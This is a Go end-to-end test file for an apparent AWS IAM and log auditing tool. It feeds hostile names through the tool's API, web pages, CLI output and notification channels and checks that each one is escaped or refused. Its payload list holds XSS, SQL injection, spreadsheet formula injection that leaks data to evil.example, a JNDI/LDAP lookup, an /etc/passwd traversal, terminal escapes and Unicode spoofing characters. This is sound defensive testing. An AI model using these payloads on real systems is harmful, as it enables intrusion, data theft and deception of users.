package e2e_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
	"unicode"

	"github.com/rogpeppe/go-internal/testscript"
)

// attacks are names that do something to whoever does not treat them as text.
var attacks = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'; DROP TABLE identity; --`,
	`=HYPERLINK("http://evil.example/"&A1)`,
	"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
	"\x1b[2J\x1b]0;owned\x07", "\u009b31mred", "two\r\nlines\tand a tab",
	"\u202egnp.exe", "\u2066hidden\u2069", "zero\u200bwidth", "tag\U000e0041",
	"p\u0430ypal", // a Cyrillic letter
	"{{7*7}}${jndi:ldap://evil.example/a}", "%s%n%00", "../../etc/passwd",
}

// long is over every limit of a name.
var long = strings.Repeat("A", 64<<10)

// hidden reports what no reader sees, but a terminal or an eye obeys.
func hidden(r rune) bool { return !unicode.IsPrint(r) }

// world writes the files of an account whose every text is hostile: what IAM
// exports, its log, and a tree with a file for each attack that a file system
// can carry, each with the key named KEY in it.
func world(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 2, "world FOLDER KEY")
	var users, keys, log []map[string]any
	at := time.Date(2026, 3, 1, 6, 0, 0, 0, time.UTC)
	for i, name := range attacks {
		arn, id := "arn:aws:iam::210987654321:user/"+name, fmt.Sprintf("AIDAQ3EGRZ4KHOSTILE%02d", i)
		users = append(users, map[string]any{
			"Path": "/", "UserName": name, "UserId": id, "Arn": arn, "CreateDate": "2024-05-02T08:14:55+00:00",
			"Tags": []map[string]any{{"Key": "owner", "Value": name + "@kestrel.example"}, {"Key": name, "Value": name}},
			"UserPolicyList": []map[string]any{{"PolicyName": name, "PolicyDocument": map[string]any{
				"Statement": map[string]any{"Effect": "Allow", "Action": "s3:" + name, "Resource": "arn:aws:s3:::" + name},
			}}},
		})
		key := hostileKey(i)
		keys = append(keys, map[string]any{"UserName": name, "AccessKeyId": key, "Status": "Active", "CreateDate": "2024-05-02T08:15:01Z"})
		for n, agent := range []string{name, long} {
			r := record(2*i+n, at.Add(time.Duration(2*i+n)*time.Minute), "s3", name, "3.120.10.20", agent)
			r["userIdentity"] = map[string]any{"type": "IAMUser", "principalId": id + "S", "arn": arn, "accountId": "210987654321", "accessKeyId": key, "userName": name}
			r["errorCode"] = "AccessDenied"
			r["errorMessage"] = name
			r["requestParameters"] = map[string]any{"bucketName": name, "key": name}
			log = append(log, r)
		}
	}
	writeJSON(ts, filepath.Join(args[0], "details.json"), map[string]any{"UserDetailList": users, "GroupDetailList": []any{}, "RoleDetailList": []any{}, "Policies": []any{}})
	writeJSON(ts, filepath.Join(args[0], "keys.json"), map[string]any{"AccessKeyMetadata": keys})
	data, err := framed("log.json", log)
	ts.Check(err)
	write(ts, filepath.Join(args[0], "log.json"), string(data))
	for _, name := range attacks {
		if !strings.Contains(name, "/") {
			write(ts, filepath.Join(args[0], "tree", name), "key: "+args[1]+"\n")
		}
	}
	users[0]["UserName"], users[0]["Arn"] = long, "arn:aws:iam::210987654321:user/"+long
	writeJSON(ts, filepath.Join(args[0], "long.json"), map[string]any{"UserDetailList": users[:1], "GroupDetailList": []any{}, "RoleDetailList": []any{}, "Policies": []any{}})
}

func writeJSON(ts *testscript.TestScript, name string, v any) {
	data, err := json.Marshal(v)
	ts.Check(err)
	write(ts, name, string(data))
}

// besiege sends every attack through every door of the API that takes a name,
// in place of NAME in BODY, with a number for SERIAL. Each is taken as it is or refused with a problem
// (RFC 9457); one of 64 KB is always refused.
func besiege(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 3, "besiege METHOD PATH BODY")
	taken, refused := 0, 0
	for i, name := range append(slices.Clone(attacks), long) {
		quoted, err := json.Marshal(name)
		ts.Check(err)
		body := strings.NewReplacer("NAME", string(quoted[1:len(quoted)-1]), "SERIAL", strconv.Itoa(i)).Replace(args[2])
		status, kind, answer := call(ts, args[0], args[1], body)
		shown := answer[:min(len(answer), 300)]
		switch {
		case !json.Valid(answer) || bytes.ContainsAny(answer, "\x1b\x07\x7f"):
			ts.Fatalf("%.80q is answered %d with %q", name, status, shown)
		case status/100 == 2 && name != long:
			taken++
		case (status == 400 || status == 413 || status == 422) && kind == "application/problem+json" && len(answer) < 4<<10:
			refused++
		default:
			ts.Fatalf("%.80q is answered %d (%s) with %q, %d bytes", name, status, kind, shown, len(answer))
		}
	}
	_, err := fmt.Fprintf(ts.Stdout(), "%d taken, %d refused\n", taken, refused)
	ts.Check(err)
}

func call(ts *testscript.TestScript, method, path, body string) (status int, kind string, answer []byte) {
	req, err := http.NewRequest(method, ts.Getenv("MUSTER_SERVER")+path, strings.NewReader(body))
	ts.Check(err)
	req.Header.Set("Authorization", "Bearer "+ts.Getenv("MUSTER_TOKEN"))
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	res, err := http.DefaultClient.Do(req)
	ts.Check(err)
	defer res.Body.Close()
	answer, err = io.ReadAll(res.Body)
	ts.Check(err)
	if res.Header.Get("X-Content-Type-Options") != "nosniff" {
		ts.Fatalf("%s %s may be sniffed", method, path)
	}
	return res.StatusCode, res.Header.Get("Content-Type"), answer
}

// answers asks for each path: 200 and JSON. With NAME in it, once for each attack.
func answers(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 1, "answers PATH...")
	for _, path := range args {
		names := []string{""}
		if strings.Contains(path, "NAME") {
			names = attacks
		}
		for _, name := range names {
			at := strings.ReplaceAll(path, "NAME", url.QueryEscape(name))
			status, kind, answer := call(ts, http.MethodGet, at, "")
			if status != http.StatusOK || !strings.HasPrefix(kind, "application/json") || !json.Valid(answer) || bytes.ContainsRune(answer, 0x7f) {
				ts.Fatalf("GET %s is answered %d (%s) %.300q", at, status, kind, answer)
			}
		}
	}
}

// page asks for each page: what is asked for must not come back as markup.
func page(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 1, "page PATH...")
	for _, path := range args {
		for _, name := range append(slices.Clone(attacks), long[:6<<10]) {
			at := strings.ReplaceAll(path, "NAME", url.QueryEscape(name))
			status, kind, answer := call(ts, http.MethodGet, at, "")
			switch {
			case status != http.StatusOK || !strings.HasPrefix(kind, "text/html"):
				ts.Fatalf("GET %.200s is answered %d (%s)", at, status, kind)
			case bytes.Contains(answer, []byte("<script>alert")), bytes.Contains(answer, []byte("<img src=x")), bytes.ContainsAny(answer, "\x1b\x07"):
				ts.Fatalf("GET %.200s gives %q back as it is", at, name)
			}
		}
	}
}

// harmless runs a program and looks at all it prints: nothing a terminal would
// obey or an eye misread, no cell that a spreadsheet would compute.
func harmless(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 2, "harmless N PROGRAM ARGS...")
	status(ts, false, args)
	out := ts.ReadFile("stdout")
	for _, text := range []string{out, ts.ReadFile("stderr")} {
		for at, r := range text {
			if r != '\n' && hidden(r) {
				ts.Fatalf("%U is printed as it is: %.120q", r, text[max(0, at-60):])
			}
		}
	}
	form := ""
	if i := slices.Index(args, "-o"); i > 0 && i+1 < len(args) {
		form = args[i+1]
	}
	switch form {
	case "json":
		if !json.Valid([]byte(out)) {
			ts.Fatalf("it is no JSON: %.300q", out)
		}
	case "csv":
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		ts.Check(err)
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					ts.Fatalf("a spreadsheet computes %q", cell)
				}
			}
		}
	}
}

// exactly compares the strings of a JSON array with the attacks that are
// printable, and so are kept as they are: each must be there once.
func exactly(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 1, "exactly FILE")
	var names []string
	ts.Check(json.Unmarshal([]byte(ts.ReadFile(args[0])), &names))
	for _, name := range attacks {
		if strings.ContainsFunc(name, hidden) {
			continue
		}
		n := 0
		for _, got := range names {
			if got == name {
				n++
			}
		}
		if n != 1 {
			ts.Fatalf("%q is there %d times in %q", name, n, names)
		}
	}
}

// A mailbox is a receiver of notices of one script.
type mailbox struct {
	mu   sync.Mutex // guards what follows
	got  [][]byte
	more chan struct{}
}

// receiver starts receivers of webhooks, mail and chat, and writes a
// configuration that names them. Owners get mail, too.
func receiver(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 1, "receiver CONFIG")
	hooks, chat, mail := collect(ts), collect(ts), &mailbox{more: make(chan struct{}, 1000)}
	mailboxes.Store(ts.MkAbs("."), hooks.mailbox)
	mailboxes.Store(ts.MkAbs("chat"), chat.mailbox)
	mailboxes.Store(ts.MkAbs("mail"), mail)
	secret, url := ts.MkAbs("hook.secret"), ts.MkAbs("slack.url")
	ts.Check(os.WriteFile(secret, []byte("whsec_b25seSBhIHRlc3QsIHRoaXJ0eS10d28gYnl0ZXMhISE="), 0o600))
	ts.Check(os.WriteFile(url, []byte(chat.URL), 0o600))
	write(ts, args[0], "notify:\n  - name: ops\n    url: "+hooks.URL+"\n    secret_file: "+secret+
		"\n  - name: room\n    slack: {url_file: "+url+"}\n  - name: people\n    email:\n      server: "+openPost(ts, mail)+
		"\n      from: Muster <muster@kestrel.example>\n      to: [security@kestrel.example]\n      owners: true\n      owner_domains: [kestrel.example]\n")
}

// A collector keeps what is posted to it.
type collector struct {
	*httptest.Server
	*mailbox
}

func collect(ts *testscript.TestScript) collector {
	box := &mailbox{more: make(chan struct{}, 1000)}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		box.take(body)
	}))
	ts.Defer(s.Close)
	return collector{s, box}
}

// mailboxes are those of all scripts, by the script's folder, and for mail and
// chat a name in it.
var mailboxes sync.Map

// noticed waits for a notice that holds TEXT, and looks at all that came: JSON
// in which nothing is hidden.
func noticed(ts *testscript.TestScript, neg bool, args []string) {
	want(ts, neg, args, 1, "noticed TEXT")
	kept, ok := mailboxes.Load(ts.MkAbs("."))
	if !ok {
		ts.Fatalf("there is no receiver")
	}
	kept.(*mailbox).await(ts, "webhook", func(all [][]byte) string {
		lacks := args[0]
		for _, body := range all {
			if !json.Valid(body) || strings.ContainsFunc(string(body), hidden) || bytes.Contains(body, []byte("<script")) {
				ts.Fatalf("a notice is %q", body)
			}
			if bytes.Contains(body, []byte(args[0])) {
				lacks = ""
			}
		}
		return lacks
	})
}
